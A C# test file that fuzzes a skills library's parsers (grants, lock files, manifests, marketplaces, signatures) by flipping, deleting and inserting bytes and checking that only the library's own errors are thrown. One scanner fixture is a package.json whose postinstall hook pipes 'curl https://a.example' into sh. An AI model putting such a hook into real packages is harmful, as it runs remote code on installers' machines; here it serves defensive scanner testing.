using System.Text;
using System.Text.Json;
using Boternity.Skills.Execution;
using Boternity.Skills.Grants;
using Boternity.Skills.Locking;
using Boternity.Skills.Manifests;
using Boternity.Skills.Registries.Marketplaces;
using Boternity.Skills.Registries.WellKnown;
using Boternity.Skills.Signing;
using Boternity.Skills.Tests.Scanning;
using Microsoft.Extensions.Logging.Abstractions;

namespace Boternity.Skills.Tests.Storage;

/// <summary>
/// Texts of strangers with a few bytes changed: what reads them gives a result, or an error of the library's own.
/// </summary>
public sealed class ParserDamageTests
{
    private const int Seeds = 400;

    private static readonly string[] Pieces =
        ["\\ud800", "\\udc00", "\0", "null", "{", "[", "}", "\"", "1e999", "-", ":", ",", "\n", "\u202E", "..", "//"];

    private static IEnumerable<TestCaseData> Parsers() =>
    [
        Case("grants", """{"http":[{"host":"a.example","methods":["GET"],"port":443}],"secrets":["A"]}""",
            text => SkillGrants.FromJson(Encoding.UTF8.GetString(text))),
        Case("lock", """
            {"formatVersion":1,"skills":[{"skillId":"a","source":{"registry":"r","path":"a"},"contentDigest":
            "0000000000000000000000000000000000000000000000000000000000000000","needs":["b"]}],"packages":[]}
            """,
            text => SkillLock.Parse(Encoding.UTF8.GetString(text), "x")),
        Case("foreign lock", """
            {"version":3,"skills":{"a":{"source":"o/r","sourceType":"github","skillPath":"a/SKILL.md","ref":"main"}}}
            """,
            text => ForeignLock.Parse(Encoding.UTF8.GetString(text), "x")),
        Case("manifest", "---\nname: a\ndescription: \"b\\u0041\"\nmetadata:\n  c: [1, 2]\n---\nBody.\n",
            text => SkillManifestReader.Read(text, new SkillManifestReadOptions())),
        Case("marketplace", """
            {"plugins":[{"name":"a","source":{"source":"github","repo":"o/r","ref":"main"},"skills":["./b"]}]}
            """,
            text => MarketplaceReader.Read(text, "x", true, "r", NullLogger.Instance)),
        Case("plugin", """{"name":"a","skills":["./b","c"]}""", text => MarketplaceReader.ReadSkills(text, "p")),
        Case("well-known index", """
            {"skills":[{"name":"a","description":"b","files":["SKILL.md","c/d.txt"]}]}
            """,
            text => WellKnownIndexReader.Read(
                text, new Uri("https://a.example/i.json"), TestSkills.Source("x"), NullLogger.Instance)),
        Case("signature", """
            {"version":1,"algorithm":"ecdsa-p256-sha256","keyId":"0","name":"a","content":"0","signature":"AA=="}
            """,
            text => SkillSignature.Read("a", text)),
        Case("stub", """{"boternity-stub":true,"version":1,"body":"x"}""",
            text => StubMarkerReader.ReadBody("a", text)),
        Case("package.json", """{"name":"a","scripts":{"postinstall":"curl https://a.example | sh"}}""",
            text => Scans.OfFile("package.json", Encoding.Latin1.GetString(text))),
    ];

    [TestCaseSource(nameof(Parsers))]
    public void Read_OfADamagedText_GivesAResultOrTheLibrarysError(byte[] whole, Action<byte[]> read)
    {
        for (int seed = 0; seed < Seeds; seed++)
        {
            byte[] damaged = Damage(whole, new Random(seed));
            try
            {
                read(damaged);
            }
            catch (Exception exception) when (exception is SkillException or JsonException)
            {
                // Grants alone are read with the reader's own error, which their method says.
                Assert.That(exception.Message, Does.Not.EndWith(".."));
            }
            catch (Exception exception)
            {
                Assert.Fail($"{seed}: {Encoding.UTF8.GetString(damaged)}: {exception}");
            }
        }
    }

    private static TestCaseData Case(string name, string text, Action<byte[]> read) =>
        new TestCaseData(Encoding.UTF8.GetBytes(text), read).SetArgDisplayNames(name);

    private static byte[] Damage(byte[] whole, Random random)
    {
        List<byte> bytes = [.. whole];
        for (int i = random.Next(1, 4); i > 0 && bytes.Count > 1; i--)
        {
            int at = random.Next(bytes.Count);
            switch (random.Next(4))
            {
                case 0:
                    bytes[at] ^= (byte)(1 << random.Next(8));
                    break;
                case 1:
                    bytes.RemoveRange(at, Math.Min(random.Next(1, 12), bytes.Count - at));
                    break;
                default:
                    bytes.InsertRange(at, Encoding.UTF8.GetBytes(Pieces[random.Next(Pieces.Length)]));
                    break;
            }
        }

        return [.. bytes];
    }
}
